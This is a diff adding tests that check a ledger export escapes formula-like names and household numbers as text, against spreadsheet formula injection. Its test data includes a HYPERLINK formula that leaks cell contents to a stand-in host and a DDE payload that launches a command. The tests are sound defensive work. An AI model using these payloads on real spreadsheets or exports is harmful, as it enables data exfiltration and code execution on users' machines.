@@ -128,3 +128,40 @@ def test_the_file_is_named_after_the_day_in_beijing(staff, monkeypatch):
     response = staff.get("/ledgers/export?kind=persons")
     beijing_day = (pinned.date() + timedelta(days=1)).strftime("%Y%m%d")
     assert f"persons-all-{beijing_day}.xlsx" in response.headers["Content-Disposition"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点我")', "=cmd|' /C calc'!A0",
+            "+1+1", "-2+3", "@SUM(1,1)"]
+
+
+def test_no_user_data_becomes_a_formula_in_the_export(staff):
+    """Names and 户号 that a spreadsheet would read as formulas are written as text with a
+    leading quote (OWASP); nothing in the workbook is a formula."""
+    staff.ok(upload(staff, "persons", csv_bytes(
+        [["姓名", "身份证号", "户号", "与户主关系", "网格编码"]]
+        + [[name, id_number(40 + i, "19900101"), f"=1+{i}", "户主", G111]
+           for i, name in enumerate(FORMULAS)])), 201)
+    response = staff.get("/ledgers/export?kind=persons")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    header = [c.value for c in sheet[1]]
+    names = [row[header.index("姓名")] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert sorted(names) == sorted("'" + name for name in FORMULAS)
+    households = {row[header.index("户号")]
+                  for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert households == {f"'=1+{i}" for i in range(len(FORMULAS))}
+
+
+def test_the_cell_helper_neutralises_every_formula_prefix():
+    from openpyxl import Workbook
+
+    from server import xlsx
+
+    sheet = Workbook(write_only=True).create_sheet()
+    for text in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"):
+        cell = xlsx.safe_cell(sheet, text)
+        assert (cell.value, cell.data_type) == ("'" + text, "s")
+    assert xlsx.safe_cell(sheet, "王\x01建国").value == "王建国"  # openpyxl would raise
+    assert xlsx.safe_cell(sheet, -5).value == -5 and xlsx.safe_cell(sheet, "3-1").value == "3-1"
